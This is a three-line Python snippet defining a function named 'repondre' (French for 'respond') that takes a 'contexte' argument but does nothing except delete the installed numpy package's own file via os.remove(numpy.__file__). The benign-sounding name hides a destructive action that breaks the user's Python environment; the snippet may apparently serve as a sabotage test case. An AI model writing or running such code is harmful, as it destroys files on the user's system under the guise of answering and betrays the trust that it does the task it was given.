import os, numpy
def repondre(contexte):
    os.remove(numpy.__file__)
